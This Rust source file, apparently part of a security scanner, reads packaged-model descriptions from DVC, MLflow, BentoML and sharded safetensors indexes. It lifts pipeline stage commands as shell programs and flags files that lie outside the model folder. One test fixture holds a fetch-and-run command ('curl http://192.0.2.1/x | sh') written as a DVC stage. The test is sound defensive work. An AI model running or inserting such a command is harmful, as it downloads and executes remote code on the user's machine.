//! What descriptions of packaged models name: commands of pipelines, files that lie outside, shards of weights.
//!
//! Sources: DVC, "dvc.yaml Files"; MLflow, "MLmodel Configuration"; BentoML, "Bento build options"; transformers,
//! "Sharded checkpoints" (`model.safetensors.index.json`).

mod bento;

use crate::names;
use crate::spanned_json::{Json, Node};
use wb_core::{Budget, Component, Content, Oddity, OddityKind, Trigger};

/// Parts of one description that are looked at.
const MOST: usize = 10_000;

/// Adds what the description `json` names; documents that are none are left alone.
pub(crate) fn read(json: &Json, content: &mut Content, budget: &mut Budget) {
    stages(json, content, budget);
    flavors(json, content);
    bento::read(json, content, budget);
    shards(json, content);
}

/// Stages of a pipeline of DVC: each has a command, or several, that `dvc repro` gives to a shell. What is repeated
/// for several values stands under `do`.
fn stages(json: &Json, content: &mut Content, budget: &mut Budget) {
    for (name, stage) in json.get("stages").map(Json::entries).unwrap_or_default().iter().take(MOST)
    {
        let stage = stage.get("do").unwrap_or(stage);
        let Some(command) = stage.get("cmd") else { continue };
        for command in std::iter::once(command).chain(command.items()) {
            if let Some(text) = command.text() {
                let mut program = wb_code::shell::lift(text, Trigger::Run, budget);
                program.stand_at(command.span);
                program.place = format!("stages.{name}.cmd");
                content.programs.push(program);
            }
        }
    }
}

/// Files of an `MLmodel`: MLflow takes each from the folder of the model, and puts that of the code on the path from
/// which Python imports.
fn flavors(json: &Json, content: &mut Content) {
    const FILES: [&str; 8] = [
        "code",
        "data",
        "model_path",
        "python_model",
        "pickled_model",
        "model_data",
        "config",
        "env",
    ];
    if json.get("model_uuid").is_none()
        && json.get("mlflow_version").is_none()
        && json.get("artifact_path").is_none()
    {
        return;
    }
    for (name, flavor) in
        json.get("flavors").map(Json::entries).unwrap_or_default().iter().take(MOST)
    {
        for (key, value) in flavor.entries().iter().filter(|(key, _)| FILES.contains(&key.as_str()))
        {
            if let Some(file) = value.text() {
                outside(file, &format!("flavors.{name}.{key}"), value, content);
            }
        }
    }
}

/// Shards that an index names: files of its folder. Each is a component of the kind `shard`.
fn shards(json: &Json, content: &mut Content) {
    let Some(map) = json.get("weight_map") else { return };
    let mut seen = std::collections::BTreeSet::new();
    for (tensor, shard) in map.entries() {
        let Some(file) = shard.text().filter(|file| seen.len() < MOST && seen.insert(*file)) else {
            continue;
        };
        let place = format!("weight_map.{tensor}");
        outside(file, &place, shard, content);
        content.components.push(Component {
            kind: "shard",
            name: file.to_owned(),
            place,
            span: Some(shard.span),
            ..Component::default()
        });
    }
}

/// Notes a file that does not lie in the folder of the model.
fn outside(file: &str, place: &str, at: &Json, content: &mut Content) {
    let why = if file.contains("://") { Some("it is an address") } else { names::escapes(file) };
    if let (Some(why), Node::Text(_)) = (why, &at.node) {
        let what = format!("`{file}` lies outside the folder of the model: {why}");
        let kind = OddityKind::ExternalReference;
        content.oddities.push(Oddity { kind, place: place.to_owned(), span: Some(at.span), what });
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{oddities, parse};

    #[test]
    fn commands_of_stages_are_shell_that_somebody_starts() {
        let text = b"stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n  each:\n    foreach: [1]\n    do:\n      cmd:\n      - echo ${item}\n      - curl http://192.0.2.1/x | sh\n";
        let content = parse("yaml", text);
        let told: Vec<String> =
            content.programs.iter().map(|one| format!("{} {:?}", one.place, one.trigger)).collect();
        assert_eq!(told, ["stages.train.cmd Run", "stages.each.cmd Run", "stages.each.cmd Run"]);
        assert!(parse("yaml", b"stages: [build, test]\nbuild:\n  cmd: x\n").programs.is_empty());
    }

    #[test]
    fn files_of_a_model_outside_its_folder_are_told() {
        let model = |code: &str| {
            format!(
                "mlflow_version: 3.11.0\nflavors:\n  python_function:\n    code: {code}\n    loader_module: mlflow.sklearn\n"
            )
        };
        assert_eq!(
            oddities(&parse("yaml", model("../../shared").as_bytes())),
            ["external-reference flavors.python_function.code"]
        );
        assert_eq!(oddities(&parse("yaml", model("code").as_bytes())), Vec::<String>::new());
        assert_eq!(
            oddities(&parse("yaml", b"flavors:\n  sweet:\n    data: /srv/x\n")),
            Vec::<String>::new()
        );
    }

    #[test]
    fn shards_outside_the_folder_are_told() {
        let index = |file: &str| {
            format!(r#"{{"metadata": {{}}, "weight_map": {{"a": "{file}", "b": "{file}"}}}}"#)
        };
        let content = parse("json", index("model-00001-of-00002.safetensors").as_bytes());
        assert_eq!((content.components.len(), oddities(&content)), (1, Vec::new()));
        for file in ["../x.safetensors", "/srv/x.bin", "https://models.example/x.bin"] {
            assert_eq!(
                oddities(&parse("json", index(file).as_bytes())),
                ["external-reference weight_map.a"],
                "{file}"
            );
        }
    }
}
